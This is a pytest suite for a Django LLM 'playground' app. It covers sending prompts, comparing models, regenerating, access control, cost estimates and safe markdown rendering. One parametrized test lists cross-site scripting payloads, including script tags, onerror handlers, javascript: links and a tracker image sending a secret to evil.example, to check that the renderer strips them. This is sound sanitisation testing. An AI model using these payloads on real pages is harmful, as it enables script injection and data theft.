"""The playground page, sending, regenerating, editing, history, estimates and safe rendering."""

import re
from collections.abc import Callable
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse

from accounts.models import User
from playground import markdown, services
from playground.models import Answer, Conversation, Turn
from providers.models import Model, Price, Provider
from tests.fakes.upstream import FakeUpstream
from tests.playground_support import answers_of, make_catalog, send_data, start_tags

pytestmark = pytest.mark.django_db

HTMX = {"HX-Request": "true"}


@pytest.fixture
def catalog(upstream: FakeUpstream) -> tuple[Model, Model]:
    return make_catalog(upstream)


@pytest.fixture
def member(make_user: Callable[..., User]) -> User:
    return make_user("member")


@pytest.fixture
def client(member: User) -> Client:
    client = Client()
    client.force_login(member)
    return client


def _send(client: Client, data: dict) -> tuple[Turn, str]:
    response = client.post(reverse("playground_send"), data, headers=HTMX)
    assert response.status_code == 200
    return Turn.objects.latest("id"), response.content.decode()


def test_the_picker_offers_enabled_models_of_enabled_providers_grouped_with_prices(
    client: Client, catalog: tuple[Model, Model]
) -> None:
    cheap, _ = catalog
    off = Provider.objects.create(name="off", kind="openai_compatible", base_url="http://127.0.0.1:9/v1",
                                  enabled=False)
    Model.objects.create(provider=off, name="hidden-by-provider")
    Model.objects.create(provider=cheap.provider, name="hidden-by-model", enabled=False)
    html = client.get(reverse("playground")).content.decode()
    picker = html.split('name="model"', 1)[1].split("</select>", 1)[0]
    assert '<optgroup label="lab">' in picker
    assert "fake-model-a · $1.00 in / $2.00 out per 1M" in picker
    assert "fake-model-b" in picker
    assert "hidden-by" not in html
    assert 'sse-connect' not in html  # nothing is streaming on an empty page


def test_finance_may_look_but_not_send(make_user: Callable[..., User], catalog: tuple[Model, Model]) -> None:
    client = Client()
    client.force_login(make_user("finance"))
    html = client.get(reverse("playground")).content.decode()
    assert "Viewing only" in html
    assert re.search(r'<button type="submit" class="pg-send-button" disabled>', html)
    assert client.post(reverse("playground_send"), send_data(catalog[0])).status_code == 403


@pytest.mark.parametrize(("role", "shown"), [("member", True), ("admin", True), ("finance", True), ("none", False)])
def test_navigation_links_the_playground_for_every_role(role: str, shown: bool,
                                                        client_as: Callable[[str], Client]) -> None:
    nav = client_as(role).get(reverse("home")).content.decode().split('<nav aria-label="Main">', 1)[1]
    assert (">Playground</a>" in nav.split("</nav>", 1)[0]) is shown


def test_sending_starts_a_conversation_and_returns_streaming_panes(client: Client, member: User,
                                                                   catalog: tuple[Model, Model]) -> None:
    cheap, dear = catalog
    response = client.post(reverse("playground_send"), send_data(cheap, dear, prompt="Compare   these\nplease"),
                           headers=HTMX)
    assert response.status_code == 200
    conversation = Conversation.objects.get()
    assert conversation.user == member and conversation.title == "Compare these please"
    turn = conversation.turns.get()
    first, second = answers_of(turn.pk)
    assert (first.model, second.model) == (cheap, dear)
    assert first.status == second.status == Answer.Status.PENDING
    html = response.content.decode()
    for answer in (first, second):
        assert f'sse-connect="{reverse("playground_stream", args=[answer.pk])}"' in html
    assert 'sse-swap="delta"' in html and 'sse-close="done"' in html
    assert f'id="id_conversation" value="{conversation.pk}" hx-swap-oob="true"' in html
    assert response["HX-Push-Url"] == reverse("playground_conversation", args=[conversation.pk])
    assert "pg:sent" in response["HX-Trigger"]


def test_without_javascript_sending_redirects_to_the_conversation(client: Client,
                                                                  catalog: tuple[Model, Model]) -> None:
    response = client.post(reverse("playground_send"), send_data(catalog[0]))
    conversation = Conversation.objects.get()
    assert response.status_code == 302 and response["Location"] == reverse("playground_conversation",
                                                                           args=[conversation.pk])
    page = client.get(response["Location"]).content.decode()
    assert "sse-connect" in page  # the pending answer streams when the page opens


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        ({"model": ""}, "Model: This field is required."),
        ({"compare_1": "SAME"}, "Pick each model once"),
        ({"stop": "a\nb\nc\nd\ne"}, "At most 4 stop sequences."),
        ({"temperature": "3"}, "Temperature: Enter a number from 0 to 2."),
        ({"prompt": "   "}, "Prompt: This field is required."),
    ],
)
def test_invalid_sends_show_errors_in_the_composer(extra: dict, message: str, client: Client,
                                                   catalog: tuple[Model, Model]) -> None:
    data = send_data(catalog[0])
    data.update({k: (catalog[0].pk if v == "SAME" else v) for k, v in extra.items()})
    response = client.post(reverse("playground_send"), data, headers=HTMX)
    assert response.status_code == 200
    assert response["HX-Retarget"] == "#composer-errors"
    assert message in response.content.decode()
    assert not Turn.objects.exists()


def test_a_model_outside_the_enabled_catalog_is_refused(client: Client, catalog: tuple[Model, Model]) -> None:
    Model.objects.filter(pk=catalog[1].pk).update(enabled=False)
    response = client.post(reverse("playground_send"), send_data(catalog[1]), headers=HTMX)
    assert "Select a valid choice" in response.content.decode()
    assert not Turn.objects.exists()


def test_continuing_a_conversation_saves_the_new_parameters(client: Client, catalog: tuple[Model, Model]) -> None:
    first, _ = _send(client, send_data(catalog[0], prompt="One"))
    response = client.post(reverse("playground_send"), send_data(
        catalog[0], prompt="Two", conversation=first.conversation_id, system="Be terse", temperature="0.5",
        max_tokens=99, stop="END"), headers=HTMX)
    assert "HX-Push-Url" not in response  # the URL already names the conversation
    second = Turn.objects.latest("id")
    assert second.conversation_id == first.conversation_id
    conversation = second.conversation
    assert (conversation.system, conversation.temperature, conversation.max_tokens, conversation.stop) == \
        ("Be terse", 0.5, 99, ["END"])
    # Reopened, the composer is as it was last sent.
    page = client.get(reverse("playground_conversation", args=[conversation.pk])).content.decode()
    assert re.search(r'<textarea name="system"[^>]*>\s*Be terse</textarea>', page)
    assert 'name="max_tokens" value="99"' in page
    assert f'<option value="{catalog[0].pk}" selected>' in page


def test_regenerate_keeps_the_earlier_answers_as_a_version(client: Client, catalog: tuple[Model, Model]) -> None:
    cheap, dear = catalog
    turn, _ = _send(client, send_data(cheap))
    old = answers_of(turn.pk)
    Answer.objects.filter(turn=turn).update(status=Answer.Status.OK, content="first try", cost=Decimal("0.001"))
    # Regenerating uses the models now in the composer: here, two to compare.
    response = client.post(reverse("playground_regenerate", args=[turn.conversation_id]),
                           send_data(cheap, dear, prompt="", conversation=turn.conversation_id), headers=HTMX)
    assert response.status_code == 200
    assert response["HX-Retarget"] == f"#turn-{turn.pk}" and response["HX-Reswap"] == "outerHTML"
    new = answers_of(turn.pk)
    assert len(new) == 2 and not {a.pk for a in new} & {a.pk for a in old}
    assert all(a.status == Answer.Status.PENDING and a.version == 2 for a in new)
    assert Turn.objects.get().prompt == "Say hello"
    # The first answer stays, as it was, with its cost.
    [kept] = answers_of(turn.pk, version=1)
    assert (kept.pk, kept.status, kept.content, kept.cost) == (old[0].pk, "ok", "first try", Decimal("0.001"))
    html = response.content.decode()
    assert "2 of 2" in html and "first try" not in html  # the new version shows, the old one a click away
    previous = reverse("playground_turn_version", args=[turn.pk, 1])
    assert f'hx-get="{previous}"' in html
    assert html.count("<article") == 2

    row = client.get(previous, headers=HTMX).content.decode()
    assert f'id="answers-{turn.pk}"' in row and "1 of 2" in row and "first try" in row
    assert row.count("<article") == 1 and f'hx-get="{reverse("playground_turn_version", args=[turn.pk, 2])}"' in row
    # The page shows the latest version, and so does a version that does not exist.
    page = client.get(reverse("playground_conversation", args=[turn.conversation_id])).content.decode()
    assert "2 of 2" in page and "first try" not in page
    assert "2 of 2" in client.get(reverse("playground_turn_version", args=[turn.pk, 9]), headers=HTMX).content.decode()


def test_regenerate_stops_the_answers_still_being_answered(client: Client, catalog: tuple[Model, Model]) -> None:
    turn, _ = _send(client, send_data(catalog[0]))
    [first] = answers_of(turn.pk)
    client.post(reverse("playground_regenerate", args=[turn.conversation_id]),
                send_data(catalog[0], prompt="", conversation=turn.conversation_id), headers=HTMX)
    first.refresh_from_db()
    assert first.status == Answer.Status.STOPPED and answers_of(turn.pk)[0].status == Answer.Status.PENDING


def test_the_next_turn_continues_from_the_latest_version(client: Client, catalog: tuple[Model, Model]) -> None:
    turn, _ = _send(client, send_data(catalog[0], prompt="Question"))
    Answer.objects.filter(turn=turn).update(status=Answer.Status.OK, content="old answer")
    client.post(reverse("playground_regenerate", args=[turn.conversation_id]),
                send_data(catalog[0], prompt="", conversation=turn.conversation_id), headers=HTMX)
    Answer.objects.filter(turn=turn, version=2).update(status=Answer.Status.OK, content="new answer")
    turns = list(Turn.objects.prefetch_related("answers"))
    assert [m.text for m in services.history(turns, 0)] == ["Question", "new answer"]
    # The composer starts from the models of the latest version.
    page = client.get(reverse("playground_conversation", args=[turn.conversation_id])).content.decode()
    assert f'<option value="{catalog[0].pk}" selected>' in page


def test_versions_of_another_members_turn_are_not_found(client: Client, make_user: Callable[..., User]) -> None:
    theirs = Conversation.objects.create(user=make_user("member", email="other@example.com"), title="Theirs")
    turn = Turn.objects.create(conversation=theirs, prompt="private")
    assert client.get(reverse("playground_turn_version", args=[turn.pk, 1]), headers=HTMX).status_code == 404


def test_edit_and_resend_replaces_the_last_prompt_and_its_answers(client: Client,
                                                                  catalog: tuple[Model, Model]) -> None:
    first, _ = _send(client, send_data(catalog[0], prompt="Keep me"))
    last, _ = _send(client, send_data(catalog[0], prompt="Typo", conversation=first.conversation_id))
    old = answers_of(last.pk)
    response = client.post(reverse("playground_send"), send_data(
        catalog[0], prompt="Fixed", conversation=first.conversation_id, edit_last="1"), headers=HTMX)
    assert response["HX-Retarget"] == f"#turn-{last.pk}"
    assert [t.prompt for t in Turn.objects.order_by("id")] == ["Keep me", "Fixed"]
    assert answers_of(last.pk)[0].pk != old[0].pk
    # The old answers answered another prompt: they go, every version of them.
    assert list(Answer.objects.filter(turn=last).values_list("version", flat=True)) == [1]


def test_history_lists_only_your_conversations_newest_first(client: Client, member: User,
                                                            make_user: Callable[..., User]) -> None:
    other = make_user("member", email="other@example.com")
    Conversation.objects.create(user=other, title="Their secret plan")
    Conversation.objects.create(user=member, title="Older")
    Conversation.objects.create(user=member, title="Newer")
    html = client.get(reverse("playground")).content.decode()
    history = html.split('id="pg-history"', 1)[1].split("</nav>", 1)[0]
    assert history.index("Newer") < history.index("Older")
    assert "Their secret plan" not in html


def test_another_members_conversation_is_not_found(client: Client, make_user: Callable[..., User],
                                                   catalog: tuple[Model, Model]) -> None:
    other = make_user("member", email="other@example.com")
    theirs = Conversation.objects.create(user=other, title="Theirs")
    Turn.objects.create(conversation=theirs, prompt="private")
    for name in ("playground_conversation",):
        assert client.get(reverse(name, args=[theirs.pk])).status_code == 404
    for name in ("playground_regenerate", "playground_rename", "playground_delete"):
        assert client.post(reverse(name, args=[theirs.pk]), {"title": "mine now"}).status_code == 404
    # Nor can a send continue it, or an estimate read it.
    assert client.post(reverse("playground_send"), send_data(catalog[0], conversation=theirs.pk)).status_code == 404
    assert client.post(reverse("playground_estimate"),
                       send_data(catalog[0], conversation=theirs.pk)).status_code == 404
    theirs.refresh_from_db()
    assert theirs.title == "Theirs" and theirs.turns.count() == 1


def test_rename_and_delete(client: Client, member: User) -> None:
    conversation = Conversation.objects.create(user=member, title="Untitled")
    response = client.post(reverse("playground_rename", args=[conversation.pk]), {"title": "  Better   name "},
                           headers=HTMX)
    html = response.content.decode()
    assert 'id="pg-head"' in html and 'id="pg-history"' in html and "Better name" in html
    conversation.refresh_from_db()
    assert conversation.title == "Better name"
    response = client.post(reverse("playground_delete", args=[conversation.pk]), headers=HTMX)
    assert response["HX-Redirect"] == reverse("playground")
    assert not Conversation.objects.exists()


def test_the_estimate_is_input_at_the_input_price_up_to_max_tokens_at_the_output_price(
    client: Client, catalog: tuple[Model, Model]
) -> None:
    cheap, dear = catalog
    Price.objects.filter(model=dear).delete()
    response = client.post(reverse("playground_estimate"), send_data(cheap, dear, prompt="x" * 400, max_tokens=1000))
    html = response.content.decode()
    # 400 characters ≈ 100 tokens: $1 x 100 / 1M = $0.0001, plus up to 1000 x $2 / 1M = $0.002.
    assert "$0.0001 \u2013 $0.0021" in html
    assert "≈100 tokens in, up to 1,000 out" in html
    assert "no price set" in html  # the model without a price


def test_the_estimate_counts_the_conversation_so_far(client: Client, catalog: tuple[Model, Model]) -> None:
    turn, _ = _send(client, send_data(catalog[0], prompt="q" * 400))
    Answer.objects.filter(turn=turn).update(status=Answer.Status.OK, content="a" * 400)
    data = send_data(catalog[0], prompt="z" * 400, conversation=turn.conversation_id)
    assert "≈300 tokens in" in client.post(reverse("playground_estimate"), data).content.decode()
    # Editing the last prompt replaces that turn: only the new prompt counts.
    data["edit_last"] = "1"
    assert "≈100 tokens in" in client.post(reverse("playground_estimate"), data).content.decode()


def test_the_estimate_counts_a_turn_still_being_answered(client: Client, catalog: tuple[Model, Model]) -> None:
    # Right after the first send the composer is empty and the answer is on its way: its prompt counts.
    turn, _ = _send(client, send_data(catalog[0], prompt="q" * 400))
    data = send_data(catalog[0], prompt="", conversation=turn.conversation_id)
    assert "≈100 tokens in" in client.post(reverse("playground_estimate"), data).content.decode()
    data["prompt"] = "z" * 400
    assert "≈200 tokens in" in client.post(reverse("playground_estimate"), data).content.decode()
    # Once answered, the answer counts too.
    Answer.objects.filter(turn=turn).update(status=Answer.Status.OK, content="a" * 400)
    assert "≈300 tokens in" in client.post(reverse("playground_estimate"), data).content.decode()
    # An answer that failed leaves its turn out of the next request, and of the estimate.
    Answer.objects.filter(turn=turn).update(status=Answer.Status.ERROR, content="")
    assert "≈100 tokens in" in client.post(reverse("playground_estimate"), data).content.decode()


def test_the_estimate_without_a_model_asks_for_one(client: Client) -> None:
    html = client.post(reverse("playground_estimate"), {"prompt": "hi"}).content.decode()
    assert "Pick a model to see what the prompt will cost." in html


def test_finished_answers_render_markdown_and_marks_in_the_transcript(client: Client, member: User,
                                                                      catalog: tuple[Model, Model]) -> None:
    cheap, dear = catalog
    turn, _ = _send(client, send_data(cheap, dear))
    a, b = answers_of(turn.pk)
    Answer.objects.filter(pk=a.pk).update(status="ok", content="Use `pip`:\n\n```sh\npip install x\n```",
                                          cost=Decimal("0.0001"), latency_ms=2000, ttft_ms=300,
                                          input_tokens=10, output_tokens=20)
    Answer.objects.filter(pk=b.pk).update(status="stopped", content="Half an ans", cost=Decimal("0.00004"),
                                          latency_ms=500, ttft_ms=200, input_tokens=10, output_tokens=3,
                                          usage_estimated=True)
    html = client.get(reverse("playground_conversation", args=[turn.conversation_id])).content.decode()
    assert '<pre><code class="language-sh">pip install x\n</code></pre>' in html
    assert "2.00 s" in html and "300 ms" in html and "12 tok/s" in html and "$0.0001" in html
    assert "≈3" in html and "mark-stopped" in html
    # Only finished (ok) answers compete: one of them is no race.
    assert "mark-cheapest" not in html and "mark-fastest" not in html


def test_mark_best_needs_two_finished_answers() -> None:
    answers = [Answer(status="ok", cost=Decimal("0.2"), latency_ms=100), Answer(status="ok", cost=Decimal("0.1"),
                                                                                latency_ms=900),
               Answer(status="error", cost=Decimal("0"), latency_ms=5)]
    services.mark_best(answers)
    assert [(a.cheapest, a.fastest) for a in answers] == [(False, True), (True, False), (False, False)]


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "![tracker](https://evil.example/p.png?secret=1)",
        '<a href="https://x" onclick="steal()">x</a>',
        "```\n</code></pre><script>x()</script>\n```",
        "<iframe src=https://evil.example></iframe><style>body{display:none}</style>",
    ],
)
def test_markdown_from_a_model_cannot_run_in_the_page(text: str) -> None:
    for tag, attrs in start_tags(markdown.render(text)):
        assert tag in markdown.TAGS
        assert not [name for name in attrs if name.startswith("on") or name in ("style", "src")]
        assert not (attrs.get("href") or "").lower().startswith("javascript")
        assert "evil.example" not in str(attrs)


def test_markdown_keeps_what_answers_need() -> None:
    html = markdown.render("# Title\n\n**bold** [docs](https://docs.example)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
                           "```python\nprint('<hi>')\n```")
    assert "<h1>Title</h1>" in html and "<strong>bold</strong>" in html
    assert '<a href="https://docs.example" rel="noopener noreferrer nofollow">docs</a>' in html
    assert "<table>" in html and "<td>2</td>" in html
    assert '<code class="language-python">print(\'&lt;hi&gt;\')' in html


@pytest.mark.parametrize(("field", "value", "message"), [
    ("max_tokens", "0", "Enter a number from 1 to 1,000,000."),
    ("max_tokens", "-5", "Enter a number from 1 to 1,000,000."),
    ("max_tokens", "99999999999999999999", "Enter a number from 1 to 1,000,000."),
    ("max_tokens", "1.5", "Enter a whole number."),
    ("temperature", "-0.1", "Enter a number from 0 to 2."),
    ("temperature", "2.5", "Enter a number from 0 to 2."),
    ("top_p", "1.01", "Enter a number from 0 to 1."),
    ("top_p", "abc", "Enter a number."),
])
def test_parameters_out_of_range_read_as_every_bounded_number_does(field: str, value: str, message: str) -> None:
    from django.core.exceptions import ValidationError

    from playground.forms import ChatForm

    with pytest.raises(ValidationError) as refused:
        ChatForm.base_fields[field].clean(value)
    assert refused.value.messages == [message]
